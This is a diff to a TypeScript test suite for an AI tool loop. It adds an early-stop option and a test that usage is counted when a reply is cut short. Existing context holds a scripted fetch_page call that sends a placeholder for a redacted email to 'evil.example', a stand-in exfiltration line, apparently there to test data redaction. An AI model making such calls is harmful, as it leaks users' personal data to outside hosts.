@@ -88,7 +88,10 @@ async function load() {
   const placeholders = new PlaceholderMap();
   const redacted = placeholders.redact("my address is ana@example.org").text;
   const extended: PromptMessage[][] = [];
-  async function play(script: Step[], { maxCalls = 5, userId = "alice" }: { maxCalls?: number; userId?: string } = {}) {
+  async function play(
+    script: Step[],
+    { maxCalls = 5, userId = "alice", stopAfterFirstResult = false }: { maxCalls?: number; userId?: string; stopAfterFirstResult?: boolean } = {},
+  ) {
     const { provider, seen } = scripted(script);
     const looped = withTools(provider, {
       tools: [fetchPage, saveNote],
@@ -118,6 +121,8 @@ async function load() {
       if (part.type === "event") events.push(part.event);
       else if (part.type === "text") text += part.text;
       else if (part.type === "usage") usage = part.usage;
+      // As reply-stream does when the person presses Stop: the loop is left, the generator returned.
+      if (stopAfterFirstResult && part.type === "event" && part.event.type === "tool-result") break;
     }
     const audited = (await (await auditLog()).recent({ limit: 100, kinds: ["tool."] })).reverse();
     return { events, text, usage, seen, audited };
@@ -212,6 +217,14 @@ describe("the tool loop", () => {
     const { play, ran } = await load();
     await play([{ calls: [{ name: "fetch_page", args: { url: "https://evil.example/?d=[EMAIL_1]" } }] }]);
     expect(ran).toEqual([{ tool: "fetch_page", args: { url: "https://evil.example/?d=[EMAIL_1]" }, userId: "alice" }]);
+  });
+
+  it("reports the running usage after every step, so a reply stopped later still counts the steps before", async () => {
+    const { play } = await load();
+    const { usage } = await play([{ calls: [{ name: "fetch_page", args: { url: "https://recipes.example/cake" } }] }, { text: "Done." }], {
+      stopAfterFirstResult: true,
+    });
+    expect(usage).toEqual({ inputTokens: 100, outputTokens: 10 });
   });
 
   it("caps the calls of one reply, and the steps with them", async () => {
